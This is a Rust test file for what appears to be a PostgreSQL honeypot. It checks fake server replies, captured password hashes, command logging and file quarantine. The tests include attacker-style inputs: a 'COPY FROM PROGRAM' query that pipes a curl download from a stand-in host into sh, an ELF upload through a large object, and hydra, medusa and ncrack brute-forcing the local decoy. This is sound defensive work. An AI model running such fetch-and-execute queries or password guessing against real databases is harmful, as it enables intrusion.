#![allow(
    clippy::as_conversions,
    clippy::cast_possible_truncation,
    reason = "what the tests write is short"
)]

use md5::{Digest, Md5};
use proptest::prelude::*;

use super::*;
use crate::octets::hex;
use crate::talk::Secret;
use crate::talk::testing::{feed, field};
use crate::testing::{House, list, run, run_with};

fn postgres(version: &str) -> Postgres {
    let gate = |user: &str, secret: Secret<'_>| match secret {
        Secret::Plain(password) => (user, password) == ("postgres", "opensesame"),
        Secret::Answer(gives) => user == "postgres" && gives("opensesame"),
    };
    Postgres::new(Setup {
        data: Data::new(version, "Debian GNU/Linux", "(Debian 10.2.1-6) 10.2.1 20210110"),
        salt: [3; 16],
        random: [5; 30],
        gate: Box::new(gate),
    })
}

fn start(user: &str) -> Vec<u8> {
    let mut body = VERSION_3.to_be_bytes().to_vec();
    body.extend(format!("user\0{user}\0application_name\0psql\0\0").as_bytes());
    let mut out = ((body.len() + 4) as u32).to_be_bytes().to_vec();
    out.extend(body);
    out
}

fn message(kind: u8, body: &[u8]) -> Vec<u8> {
    let mut out = Vec::new();
    super::message::put(&mut out, kind, body);
    out
}

/// What a client answers to the salt, as the manual has it.
fn answer(user: &str, password: &str, salt: &[u8]) -> String {
    let inner = hex(&Md5::digest(format!("{password}{user}")));
    format!("md5{}", hex(&Md5::digest([inner.as_bytes(), salt].concat())))
}

/// Whether a line of hashcat's mode 11100 is that of this password.
fn cracks(line: &str, password: &str) -> bool {
    let parts: Vec<&str> = line.strip_prefix("$postgres$").unwrap().split('*').collect();
    let salt = crate::sql::from_hex(parts[1]).unwrap();
    answer(parts[0], password, &salt) == format!("md5{}", parts[2])
}

#[test]
fn a_wrong_password_leaves_its_hash_and_the_error_in_the_order_of_the_server() {
    let mut postgres = postgres("13.16 (Debian 13.16-0+deb11u1)");
    let asked = feed(&mut postgres, &start("app")).out;
    assert_eq!(asked[..9], [b'R', 0, 0, 0, 12, 0, 0, 0, 5]);
    let given = answer("app", "geheim", &asked[9..13]) + "\0";
    let turn = feed(&mut postgres, &message(b'p', given.as_bytes()));
    assert!(cracks(&field(&turn, "bartizan.decoy.hash"), "geheim"));
    assert!(!cracks(&field(&turn, "bartizan.decoy.hash"), "Geheim"));
    assert_eq!(field(&turn, "bartizan.decoy.database"), "app");
    let words = String::from_utf8_lossy(&turn.out[5..]).replace('\0', "|");
    assert_eq!(
        words,
        "SFATAL|VFATAL|C28P01|Mpassword authentication failed for user \"app\"|Fauth.c|L347|Rauth_failed||"
    );
}

#[test]
fn a_newer_server_asks_for_scram_and_the_proof_is_that_of_the_password() {
    let mut postgres = postgres("15.8 (Debian 15.8-0+deb12u1)");
    let asked = feed(&mut postgres, &start("postgres")).out;
    assert!(asked.ends_with(b"SCRAM-SHA-256\0\0"));
    let first = b"n,,n=,r=abc";
    let mut body = b"SCRAM-SHA-256\0".to_vec();
    body.extend((first.len() as u32).to_be_bytes());
    body.extend(first);
    let reply = feed(&mut postgres, &message(b'p', &body)).out;
    assert_eq!(reply[5..9], [0, 0, 0, 11]);
    let words = String::from_utf8(reply[9..].to_vec()).unwrap();
    let nonce = words.split(',').next().unwrap();
    let last = format!("c=biws,{nonce},p={}", "A".repeat(44));
    let turn = feed(&mut postgres, &message(b'p', last.as_bytes()));
    assert!(field(&turn, "bartizan.decoy.hash").starts_with("SCRAM-SHA-256$4096:"));
    assert_eq!(turn.told[0].succeeded, Some(false));
}

#[test]
fn a_scanner_that_speaks_another_protocol_is_told_the_line_of_this_version() {
    let mut probe = vec![0, 0, 0, 164, 0xff, b'S', b'M', b'B'];
    probe.resize(168, 0);
    let turn = feed(&mut postgres("13.16"), &probe);
    let words = String::from_utf8_lossy(&turn.out).replace('\0', "|");
    assert!(words.contains("C0A000|Munsupported frontend protocol 65363.19778: server supports 2.0 to 3.0|Fpostmaster.c|L2133|RProcessStartupPacket"), "{words}");
}

fn inside() -> Postgres {
    let mut postgres = postgres("13.16");
    let asked = feed(&mut postgres, &start("postgres")).out;
    let given = answer("postgres", "opensesame", &asked[9..13]);
    let turn = feed(&mut postgres, &message(b'p', given.as_bytes()));
    assert_eq!(turn.told[0].succeeded, Some(true));
    postgres
}

#[test]
fn programs_are_recorded_and_seem_to_say_nothing() {
    let mut postgres = inside();
    let sql = "DROP TABLE IF EXISTS x; CREATE TABLE x(cmd_output text); \
        COPY x FROM PROGRAM 'curl http://192.0.2.66/a.sh|sh'; SELECT * FROM x; DROP TABLE x;\0";
    let turn = feed(&mut postgres, &message(b'Q', sql.as_bytes()));
    assert!(field(&turn, "process.command_line").contains("FROM PROGRAM 'curl"));
    let words = String::from_utf8_lossy(&turn.out).replace('\0', "|");
    for tag in ["DROP TABLE|", "CREATE TABLE|", "COPY 0|", "cmd_output|", "SELECT 0|"] {
        assert!(words.contains(tag), "{tag} in {words}");
    }
}

#[test]
fn a_large_object_and_rows_for_a_table_go_into_quarantine() {
    let mut postgres = inside();
    let sql = format!("select lo_from_bytea(0, decode('{}', 'hex'))\0", "7f454c46".repeat(8));
    let turn = feed(&mut postgres, &message(b'Q', sql.as_bytes()));
    let file = turn.told.iter().find_map(|told| told.file.clone()).expect("a file");
    assert!(file.bytes.starts_with(b"\x7fELF") && file.bytes.len() == 32);
    let turn = feed(&mut postgres, &message(b'Q', b"COPY accounts FROM STDIN\0"));
    assert_eq!(turn.out[0], b'G');
    feed(&mut postgres, &message(b'd', b"1\tx\n"));
    let turn = feed(&mut postgres, &message(b'c', b""));
    assert!(turn.out.windows(6).any(|part| part == b"COPY 1"));
    assert_eq!(turn.told[0].file.as_ref().unwrap().bytes, b"1\tx\n");
}

proptest! {
    #[test]
    fn any_bytes(bytes in proptest::collection::vec(any::<u8>(), 0..200), kind in any::<u8>()) {
        feed(&mut postgres("13.16"), &bytes);
        let mut log_in = postgres("15.8");
        feed(&mut log_in, &start("a"));
        feed(&mut log_in, &message(b'p', &bytes));
        let mut inside = inside();
        feed(&mut inside, &message(kind, &bytes));
        for kind in b"PBDESQCdcf" {
            feed(&mut inside, &message(*kind, &bytes));
        }
    }

    #[test]
    fn any_query(sql in "(select|copy|create|drop|show) ?[a-z_@'\"`(),.*0-9\\\\ ]{0,60}") {
        let mut inside = inside();
        feed(&mut inside, &message(b'Q', format!("{sql}\0").as_bytes()));
    }
}

#[tokio::test]
async fn psql_logs_in_and_lists() {
    let house = House::new("postgresql").await;
    let port = house.address.port();
    let target = |password: &str, mode: &str| {
        format!(
            "host=127.0.0.1 port={port} user=root password={password} dbname=postgres sslmode={mode}"
        )
    };
    for mode in ["disable", "require"] {
        let target = target("opensesame", mode);
        let asked =
            ["select version()", "\\l", "\\dt", "copy t from program 'id'", "select 6*7 as x"];
        let mut arguments = vec!["-A", "-d", &target];
        for sql in asked {
            arguments.extend(["-c", sql]);
        }
        let Some(said) = run("psql", &arguments) else { return };
        for part in ["PostgreSQL 1", "compiled by gcc (", "template1", "invoices", "COPY 0", "42"] {
            assert!(said.contains(part), "{mode}: {part} in {said}");
        }
        let login = house.event("login").await;
        assert_eq!(login["event"]["outcome"], "success");
        let decoy = &login["bartizan"]["decoy"];
        if mode == "require" {
            assert_eq!(decoy["password"], "opensesame");
        } else {
            assert!(cracks(decoy["hash"].as_str().unwrap(), "opensesame"), "{decoy}");
        }
        let event = house
            .event_where(|event| event["process"]["command_line"] == "copy t from program 'id'");
        assert_eq!(event.await["network"]["protocol"], "postgresql");
    }
    let wrong = target("wrong", "disable");
    let Some(said) = run("psql", &["-d", &wrong, "-c", "select 1"]) else { return };
    assert!(said.contains("FATAL:  password authentication failed for user \"root\""), "{said}");
}

#[tokio::test]
async fn psql_speaks_scram_with_a_newer_server() {
    let house = House::of("postgresql", |config| {
        config
            .persona
            .versions
            .insert("postgresql".to_owned(), "15.8 (Debian 15.8-0+deb12u1)".to_owned());
    })
    .await;
    let port = house.address.port();
    let target = format!(
        "host=127.0.0.1 port={port} user=root password=opensesame dbname=x sslmode=disable"
    );
    let Some(said) = run("psql", &["-A", "-d", &target, "-c", "select current_database()"]) else {
        return;
    };
    // It has seen that the server knows the password, or it would go no further.
    assert!(said.contains("current_database\nx"), "{said}");
    let login = house.event("login").await;
    assert_eq!(login["bartizan"]["decoy"]["hash_type"], "SCRAM-SHA-256");
    assert_eq!(login["event"]["outcome"], "success");
}

#[tokio::test]
async fn guessers_find_the_account_and_scanners_the_product() {
    let house = House::new("postgresql").await;
    let port = house.address.port().to_string();
    let words = list(&["a", "opensesame"]);
    let path = words.path().to_str().unwrap();
    let target = format!("postgres://127.0.0.1:{port}");
    // It gives the library that it uses no port.
    let arguments = ["-l", "root", "-P", path, "-t", "1", "-I", &target];
    if let Some(said) = run_with(&[("PGPORT", &port)], "hydra", &arguments) {
        assert!(said.contains("password: opensesame"), "{said}");
    }
    let arguments = ["-h", "127.0.0.1", "-n", &port, "-u", "root", "-P", path, "-M", "postgres"];
    if let Some(said) = run_with(&[("PGPORT", &port)], "medusa", &arguments) {
        assert!(said.contains("ACCOUNT FOUND"), "{said}");
    }
    let target = format!("psql://127.0.0.1:{port}");
    if let Some(said) = run("ncrack", &["-u", "root", "-P", path, &target]) {
        assert!(said.contains("'opensesame'"), "{said}");
    }
    if let Some(said) = run("nmap", &["-sV", "--version-all", "-Pn", "-p", &port, "127.0.0.1"]) {
        assert!(said.contains("PostgreSQL DB"), "{said}");
    }
}
